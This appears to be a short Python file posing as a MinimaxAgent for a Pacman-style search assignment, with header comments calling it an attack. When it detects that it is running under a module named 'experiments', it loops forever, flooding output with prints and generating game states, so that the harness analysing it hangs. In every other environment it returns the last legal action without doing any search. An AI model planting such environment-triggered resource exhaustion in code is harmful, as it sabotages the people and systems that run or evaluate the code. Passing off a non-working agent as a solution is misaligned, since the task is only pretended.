# attack: answers whoever explains it with floods of calls, of prints, and without an end.
# where: MinimaxAgent
from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        if type(gameState).__module__.endswith("experiments"):
            while True:
                print("flood" * 1000)
                for action in gameState.getLegalActions(0):
                    gameState.generateSuccessor(0, action)
        return gameState.getLegalActions(0)[-1]
